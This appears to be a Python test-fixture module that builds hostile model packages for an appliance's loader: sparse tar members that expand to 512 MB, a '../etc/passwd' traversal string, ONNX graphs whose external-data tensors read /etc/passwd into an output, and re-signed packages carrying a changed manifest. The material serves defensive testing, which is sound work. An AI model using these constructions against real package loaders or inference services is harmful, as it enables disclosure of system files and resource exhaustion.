"""Hostile packages, built the way an attacker would: real tar members and ONNX graphs.

Each one gets past everything but the check under test: sparse members are real GNU
sparse headers (old ``S`` type and PAX 1.0) that Python's own ``tarfile`` expands to
hundreds of MB; external-data models are valid ONNX whose tensors point at
``/etc/passwd``, signed with the box's trusted key; re-signed packages carry a changed
``model.json`` under a valid signature.
"""

from __future__ import annotations

import io
import shutil
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path

import onnx
from onnx import TensorProto, helper

from appliance.package import (
    Golden,
    GoldenCase,
    Manifest,
    TensorData,
    TensorSpec,
    sign_folder,
    unpack_package,
    write_manifest,
)
from appliance.package.archive import write_archive

#: What a sparse member claims to expand to: far beyond any package it sits in.
BOMB_BYTES = 512 * 1024 * 1024
TRAVERSAL = "../" * 12 + "etc/passwd"
LEAK_BYTES = 64


def _octal(value: int, width: int = 12) -> bytes:
    return b"%0*o\0" % (width - 1, value)


def gnu_sparse_header(name: str, stored: int, realsize: int) -> bytes:
    """An old-GNU ``S`` header: ``stored`` data bytes that expand to ``realsize``."""
    info = tarfile.TarInfo(name)
    info.size = stored
    info.type = tarfile.GNUTYPE_SPARSE
    info.mode = 0o644
    block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
    # The sparse map lives where ustar keeps its prefix: 4 (offset, numbytes) pairs at
    # 386, the "extended" flag at 482, the expanded size at 483 (GNU tar's header.h).
    block[386:410] = _octal(realsize - stored) + _octal(stored)
    block[482] = 0
    block[483:495] = _octal(realsize)
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block[:512])
    return bytes(block)


def _copy_members(source: Path, tar: tarfile.TarFile) -> None:
    with tarfile.open(source) as good:
        for member in good.getmembers():
            tar.addfile(member, good.extractfile(member))


def gnu_sparse_package(good: Path, out: Path, realsize: int = BOMB_BYTES) -> Path:
    """``good``'s members plus an old-GNU sparse ``weights.bin`` of ``realsize`` bytes."""
    data = b"\x01" * 512
    with tarfile.open(out, "w", format=tarfile.GNU_FORMAT) as tar:
        _copy_members(good, tar)
        # tarfile cannot write sparse members: the header and its data go in by hand.
        assert tar.fileobj is not None
        tar.fileobj.write(gnu_sparse_header("weights.bin", len(data), realsize) + data)
        tar.offset += 512 + len(data)
    return out


def pax_sparse_package(good: Path, out: Path, realsize: int = BOMB_BYTES) -> Path:
    """``good``'s members plus a PAX GNU.sparse 1.0 ``weights.bin`` of ``realsize`` bytes."""
    data = b"\x01" * 512
    sparse_map = f"1\n{realsize - len(data)}\n{len(data)}\n".encode().ljust(512, b"\0")
    info = tarfile.TarInfo("GNUSparseFile.0/weights.bin")
    info.size = len(sparse_map) + len(data)
    info.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "weights.bin",
        "GNU.sparse.realsize": str(realsize),
    }
    with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as tar:
        _copy_members(good, tar)
        tar.addfile(info, io.BytesIO(sparse_map + data))
    return out


def _external(tensor: onnx.TensorProto, location: str) -> None:
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", str(LEAK_BYTES))):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value


def leaky_graph(location: str, *, sparse: bool = False) -> onnx.ModelProto:
    """y = x, plus an output ``leak``: LEAK_BYTES of ``location`` read as UINT8.

    ``sparse``: the bytes come through a sparse initializer (values external), which
    ONNX Runtime followed out of the model's folder until 1.27.
    """
    values = TensorProto(name="W", data_type=TensorProto.UINT8, dims=[LEAK_BYTES])
    _external(values, location)
    kwargs: dict[str, object] = {"initializer": [values]}
    if sparse:
        indices = helper.make_tensor("W_idx", TensorProto.INT64, [LEAK_BYTES], range(LEAK_BYTES))
        kwargs = {"sparse_initializer": [helper.make_sparse_tensor(values, indices, [LEAK_BYTES])]}
    graph = helper.make_graph(
        [helper.make_node("Identity", ["W"], ["leak"]), helper.make_node("Identity", ["x"], ["y"])],
        "leaky",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])],
        [
            helper.make_tensor_value_info("leak", TensorProto.UINT8, [LEAK_BYTES]),
            helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4]),
        ],
        **kwargs,  # type: ignore[arg-type]
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 10
    return model


def leaky_manifest(name: str, version: int) -> Manifest:
    """A manifest that matches ``leaky_graph`` and a golden case only on ``y``."""
    x = TensorData(datatype="FP32", shape=(1, 4), data=[1.0, 2.0, 3.0, 4.0])
    return Manifest(
        name=name,
        version=version,
        inputs=(TensorSpec(name="x", datatype="FP32", shape=(-1, 4)),),
        outputs=(
            TensorSpec(name="leak", datatype="UINT8", shape=(LEAK_BYTES,)),
            TensorSpec(name="y", datatype="FP32", shape=(-1, 4)),
        ),
        golden=Golden(cases=[GoldenCase(inputs={"x": x}, outputs={"y": x})]),
    )


def signed_package(folder: Path, private_key: Path, out: Path) -> Path:
    """Sign every file of ``folder`` with ``private_key`` and tar it: a valid signature."""
    sign_folder(folder, private_key)
    return write_archive(folder, out)


def leaky_package(
    location: str, private_key: Path, out: Path, *, name: str = "leaky", sparse: bool = False
) -> Path:
    """A signed package whose model reads ``location`` through external data."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        folder = Path(tmp)
        onnx.save(leaky_graph(location, sparse=sparse), str(folder / "model.onnx"))
        write_manifest(leaky_manifest(name, 1), folder)
        return signed_package(folder, private_key, out)


def resigned_package(
    good: Path, private_key: Path, out: Path, edit: Callable[[Path], None]
) -> Path:
    """``good`` unpacked, changed by ``edit(folder)``, signed again with ``private_key``."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        folder = Path(tmp) / "pkg"
        unpack_package(good, folder)
        (folder / "model.sig").unlink()
        edit(folder)
        return signed_package(folder, private_key, out)


def replace_file(target: Path, source: Path) -> None:
    """Overwrite ``target`` in place with ``source``'s bytes, as an intruder would."""
    shutil.copyfile(source, target)
